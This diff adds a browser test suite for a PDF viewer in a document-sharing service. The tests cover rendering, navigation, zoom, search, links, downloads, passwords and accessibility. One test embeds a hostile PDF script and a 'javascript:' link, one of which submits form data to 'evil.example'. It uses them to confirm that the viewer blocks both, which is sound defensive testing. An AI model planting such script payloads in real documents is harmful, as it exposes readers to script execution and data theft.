@@ -1,0 +1,359 @@
+// The viewer of a PDF as a person meets it, in a real browser.
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { createRequire } from "node:module";
+import { after, before, test } from "node:test";
+import { broken, content, encryptedPdf, pdf } from "../documents/pdf_writer.mjs";
+import { newAccount, share } from "../integration/api_client.mjs";
+import { keepScreenshot, launch, open } from "./browser.mjs";
+
+const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
+
+const report = pdf(
+  Array.from({ length: 8 }, (_, i) => [
+    `Harbour report, page ${i + 1}`,
+    "",
+    "The north mole was repaired in spring, and the lamp was renewed.",
+    "Ships that came in: 214. Ships that went out: 211.",
+    i === 4 ? "Here stands the word heliotrope, once." : "The keeper writes down what the keeper sees.",
+  ]),
+  { links: [{ url: "https://example.org/mole" }, { page: 6 }, { url: "ftp://example.org/x" }] },
+);
+
+let browser;
+let key;
+let url;
+before(async () => {
+  browser = await launch();
+  ({ key } = newAccount());
+  url = await linkTo(report, { title: "Harbour report", allowDownload: true });
+});
+after(() => browser.close());
+
+async function linkTo(bytes, more = {}) {
+  return (await share(key, { template: "pdf", content: content(bytes), ...more })).url;
+}
+
+const layer = (page, number) => page.locator(`.page[data-page-number="${number}"] .textLayer`);
+const drawn = (page, number) =>
+  page.locator(`.page[data-page-number="${number}"][data-loaded="true"] canvas`).first().waitFor();
+
+// Opens the viewer and waits until the first page is drawn.
+async function openViewer(link, options) {
+  const opened = await open(browser, link, options);
+  await drawn(opened.page, 1);
+  await layer(opened.page, 1).locator("span").first().waitFor();
+  return opened;
+}
+
+// Whether something other than the paper's white is on the first canvas of a page.
+const hasInk = (page, number) =>
+  page
+    .locator(`.page[data-page-number="${number}"] canvas`)
+    .first()
+    .evaluate((canvas) => {
+      const copy = document.createElement("canvas");
+      [copy.width, copy.height] = [canvas.width, canvas.height];
+      const context = copy.getContext("2d");
+      context.drawImage(canvas, 0, 0);
+      return context
+        .getImageData(0, 0, copy.width, copy.height)
+        .data.some((value, i) => i % 4 < 3 && value < 100);
+    });
+
+const pageNumber = (page) => page.getByLabel("Page", { exact: true });
+const scaleOf = (page) =>
+  page
+    .locator(".page")
+    .first()
+    .evaluate((element) => element.getBoundingClientRect().width);
+
+// The page's policy keeps scripts out, this one too, so it comes in by the debugger's door.
+async function assertAccessible(page) {
+  await page.evaluate(axe);
+  const { violations } = await page.evaluate(() => window.axe.run());
+  assert.deepEqual(
+    violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(" ")}`),
+    [],
+  );
+}
+
+const looks = {
+  "pdf-light": { viewport: { width: 1280, height: 900 } },
+  "pdf-dark": { viewport: { width: 1280, height: 900 }, colorScheme: "dark" },
+  "pdf-phone": {
+    viewport: { width: 375, height: 700 },
+    isMobile: true,
+    hasTouch: true,
+    deviceScaleFactor: 2,
+  },
+  "pdf-phone-dark": {
+    viewport: { width: 375, height: 700 },
+    isMobile: true,
+    hasTouch: true,
+    colorScheme: "dark",
+  },
+};
+
+for (const [name, options] of Object.entries(looks)) {
+  test(`a document is drawn, fits and is accessible (${name})`, async () => {
+    const { page, context, assertNoTrouble } = await openViewer(url, options);
+    assert.equal(await page.title(), "Harbour report");
+    assert.ok(await hasInk(page, 1));
+    assert.equal(await page.locator("#pdf-pages").textContent(), "8");
+    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+    assert.ok(overflow <= 0, `the page is ${overflow} pixels too wide`);
+    assert.ok((await scaleOf(page)) <= options.viewport.width);
+    for (const control of ["Previous page", "Next page", "Zoom in", "Zoom out", "Search"]) {
+      const box = await page.getByRole("button", { name: control }).boundingBox();
+      assert.ok(box.x >= 0 && box.x + box.width <= options.viewport.width, control);
+    }
+    await assertAccessible(page);
+    await keepScreenshot(page, name);
+    assertNoTrouble();
+    await context.close();
+  });
+}
+
+test("pages are turned by buttons, by number and by keys", async () => {
+  const { page, context, assertNoTrouble } = await openViewer(url);
+  const is = async (number) => {
+    await page.waitForFunction((n) => document.getElementById("pdf-page").value === n, String(number));
+    await drawn(page, number);
+  };
+  assert.ok(await page.getByRole("button", { name: "Previous page" }).isDisabled());
+  await page.getByRole("button", { name: "Next page" }).click();
+  await is(2);
+  await pageNumber(page).fill("8");
+  await pageNumber(page).press("Enter");
+  await is(8);
+  assert.ok(await page.getByRole("button", { name: "Next page" }).isDisabled());
+  for (const nonsense of ["0", "9", "-1", "x", ""]) {
+    await pageNumber(page).fill(nonsense);
+    await pageNumber(page).press("Enter");
+    assert.equal(await pageNumber(page).inputValue(), "8", nonsense);
+  }
+  await page.locator("#pdf-scroller").focus();
+  await page.keyboard.press("ArrowLeft");
+  await is(7);
+  await page.keyboard.press("Home");
+  await is(1);
+  await page.keyboard.press("ArrowRight");
+  await is(2);
+  await page.keyboard.press("End");
+  await is(8);
+  const top = () => page.locator("#pdf-scroller").evaluate((element) => element.scrollTop);
+  await page.keyboard.press("Home");
+  await is(1);
+  const before = await top();
+  await page.keyboard.press("PageDown");
+  await page.waitForFunction((was) => document.getElementById("pdf-scroller").scrollTop > was + 100, before);
+  assertNoTrouble();
+  await context.close();
+});
+
+test("the zoom goes in, out, to the width and to the page, and follows the window", async () => {
+  const { page, context, assertNoTrouble } = await openViewer(url, {
+    viewport: { width: 1000, height: 800 },
+  });
+  const until = (test, was) =>
+    page.waitForFunction(
+      ([source, width]) =>
+        new Function("now", "was", `return ${source}`)(
+          document.querySelector(".page").getBoundingClientRect().width,
+          width,
+        ),
+      [test, was],
+    );
+  let width = await scaleOf(page);
+  await page.getByRole("button", { name: "Zoom in" }).click();
+  await until("now > was", width);
+  width = await scaleOf(page);
+  await page.locator("#pdf-scroller").focus();
+  await page.keyboard.press("-");
+  await until("now < was", width);
+  assert.match(await page.locator("#pdf-zoom option:checked").textContent(), /^\d+%$/);
+  await page.locator("#pdf-zoom").selectOption("Fit page");
+  await until("now < 650");
+  await page.locator("#pdf-zoom").selectOption("Fit width");
+  await until("now > 940 && now <= 1000");
+  await page.setViewportSize({ width: 700, height: 800 });
+  await until("now > 640 && now <= 700");
+  await page.locator("#pdf-zoom").selectOption("200%");
+  await until("now > 1500");
+  assertNoTrouble();
+  await context.close();
+});
+
+test("a word is found, counted and shown, from the keyboard alone", async () => {
+  const { page, context, assertNoTrouble } = await openViewer(url);
+  await page.keyboard.press("Control+f");
+  const field = page.getByLabel("Search in the document");
+  await field.fill("heliotrope");
+  await page.getByText("1 of 1", { exact: true }).waitFor();
+  await layer(page, 5).locator(".highlight.selected").waitFor();
+  assert.equal(await pageNumber(page).inputValue(), "5");
+  await field.fill("keeper");
+  await page.getByText(/^\d+ of 14$/).waitFor();
+  const first = await page.locator("#pdf-found").textContent();
+  await field.press("Enter");
+  await page.waitForFunction((was) => document.getElementById("pdf-found").textContent !== was, first);
+  await page.getByRole("button", { name: "Previous match" }).click();
+  await page.waitForFunction((was) => document.getElementById("pdf-found").textContent === was, first);
+  await keepScreenshot(page, "pdf-search");
+  await assertAccessible(page);
+  await field.fill("nowhere to be found");
+  await page.getByText("Not found").waitFor();
+  await field.press("Escape");
+  assert.ok(await field.isHidden());
+  assert.equal(await page.locator(".highlight").count(), 0);
+  assertNoTrouble();
+  await context.close();
+});
+
+test("text is there to be selected", async () => {
+  const { page, context } = await openViewer(url);
+  const selected = await layer(page, 1).evaluate((element) => {
+    getSelection().selectAllChildren(element);
+    return getSelection().toString();
+  });
+  assert.match(selected, /Ships that came in: 214\./);
+  const selectable = await layer(page, 1)
+    .locator("span")
+    .first()
+    .evaluate((element) => getComputedStyle(element).userSelect);
+  assert.notEqual(selectable, "none");
+  await context.close();
+});
+
+test("links lead to the web in a tab of their own, and within the document", async () => {
+  const { page, context, assertNoTrouble } = await openViewer(url);
+  const links = page.locator('.page[data-page-number="1"] .annotationLayer a[href]');
+  await links.first().waitFor();
+  const external = page.locator('.annotationLayer a[href="https://example.org/mole"]').first();
+  assert.equal(await external.getAttribute("target"), "_blank");
+  assert.equal(await external.getAttribute("rel"), "noopener noreferrer nofollow");
+  assert.equal(await page.locator('.annotationLayer a[href^="ftp"]').count(), 0);
+  await page.locator('.annotationLayer a[href^="#"]').first().click();
+  await page.waitForFunction(() => document.getElementById("pdf-page").value === "6");
+  assertNoTrouble();
+  await context.close();
+});
+
+test("the download is offered where the link allows it, and gives the file", async () => {
+  const { page, context } = await openViewer(url);
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("link", { name: "Download" }).click(),
+  ]);
+  assert.equal(download.suggestedFilename(), "Harbour report.pdf");
+  assert.deepEqual(readFileSync(await download.path()), report);
+  await context.close();
+
+  const closed = await openViewer(await linkTo(report));
+  assert.equal(await closed.page.getByText("Download").count(), 0);
+  assert.ok(await closed.page.getByRole("link", { name: "Open the document" }).isHidden());
+  await closed.context.close();
+});
+
+test("no script of a document runs, and nothing leads to a script", async () => {
+  const evil = "app.alert('executed'); this.submitForm('https://evil.example/'); window.executed = true;";
+  const link = await linkTo(
+    pdf([["A document with scripts"]], {
+      script: evil,
+      links: [{ javascript: evil }, { url: "javascript:window.executed=true" }],
+    }),
+  );
+  const { page, context, assertNoTrouble } = await openViewer(link);
+  await page.locator(".annotationLayer").first().waitFor({ state: "attached" });
+  for (const section of await page.locator(".annotationLayer section").all())
+    await section.click({ force: true });
+  assert.equal(await page.evaluate(() => window.executed), undefined);
+  assert.equal(await page.locator('a[href^="javascript"]').count(), 0);
+  assertNoTrouble();
+  await context.close();
+});
+
+test("a large file comes in ranges, and opens before all of it is there", async () => {
+  const link = await linkTo(pdf([["Large"], ["Second"]], { filler: 5_000_000 }));
+  const context = await browser.newContext({ ignoreHTTPSErrors: true });
+  const page = await context.newPage();
+  const statuses = [];
+  page.on("response", (response) => {
+    if (new URL(response.url()).pathname.endsWith("/file")) statuses.push(response.status());
+  });
+  await page.goto(link);
+  await drawn(page, 1);
+  assert.ok(statuses.includes(206), statuses.join(" "));
+  await context.close();
+});
+
+test("the last view of a link shows its document", async () => {
+  const link = await linkTo(report, { maxViews: 1 });
+  const { context } = await openViewer(link);
+  await context.close();
+});
+
+test("a link's password opens its document", async () => {
+  const { page, context } = await open(browser, await linkTo(report, { password: "open sesame" }));
+  await page.getByLabel("Password").fill("open sesame");
+  await page.getByRole("button", { name: "Open" }).click();
+  await drawn(page, 1);
+  await context.close();
+});
+
+test("a document with a password of its own asks for it", async () => {
+  const { page, context, assertNoTrouble } = await open(
+    browser,
+    await linkTo(encryptedPdf(["Locked page"], "lantern")),
+  );
+  const field = page.getByLabel("Password of the document");
+  await field.fill("wrong");
+  await page.getByRole("button", { name: "Open" }).click();
+  await page.getByText("That password is not right").waitFor();
+  await keepScreenshot(page, "pdf-password");
+  await assertAccessible(page);
+  await field.fill("lantern");
+  await field.press("Enter");
+  await drawn(page, 1);
+  await layer(page, 1).getByText("Locked page").waitFor();
+  assertNoTrouble();
+  await context.close();
+});
+
+test("a broken document says so, and leaves a way on", async () => {
+  const { page, context, assertNoTrouble } = await open(browser, await linkTo(broken));
+  await page.getByText("This document cannot be shown here").waitFor();
+  const way = page.getByRole("link", { name: "Open the document" });
+  assert.match(await way.getAttribute("href"), /^\/a\/art_\w+\/file\?token=/);
+  await way.waitFor();
+  await assertAccessible(page);
+  await keepScreenshot(page, "pdf-broken");
+  assertNoTrouble();
+  await context.close();
+});
+
+test("without JavaScript there is a link to the file", async () => {
+  const { page, context } = await open(browser, url, { javaScriptEnabled: false });
+  assert.ok(await page.getByText("This document is a PDF file.").isVisible());
+  assert.ok(await page.getByRole("link", { name: "Open the document" }).isVisible());
+  assert.ok(await page.getByRole("link", { name: "Download" }).isVisible());
+  assert.ok(await page.locator("#pdf-toolbar").isHidden());
+  await keepScreenshot(page, "pdf-no-script");
+  await context.close();
+});
+
+test("a document elsewhere is a card with its host", async () => {
+  const { url: link } = await share(key, {
+    template: "pdf",
+    title: "Annual report",
+    content: { url: "https://docs.example.org/report.pdf" },
+  });
+  const { page, context, assertNoTrouble } = await open(browser, link);
+  assert.ok(await page.getByText("This document is at docs.example.org").isVisible());
+  assert.ok(await page.getByRole("link", { name: "Open the document" }).isVisible());
+  await assertAccessible(page);
+  await keepScreenshot(page, "pdf-elsewhere");
+  assertNoTrouble();
+  await context.close();
+});
